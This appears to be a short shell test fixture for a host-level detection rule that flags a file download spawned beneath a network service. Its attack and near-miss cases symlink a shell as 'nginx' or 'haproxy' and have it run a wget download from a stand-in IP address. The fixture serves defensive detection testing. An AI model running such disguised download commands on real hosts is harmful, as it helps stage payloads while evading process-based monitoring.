# rule: Download below a network service
# where: host
attack() {
    ln -s /bin/sh nginx
    ln -s /bin/true wget
    ./nginx -c './wget -q http://192.0.2.9/k -O k; :'
}
near_miss() {
    ln -s /bin/sh haproxy
    ln -s /bin/true wget
    ./haproxy -c './wget -q http://192.0.2.9/k -O k; :'
}
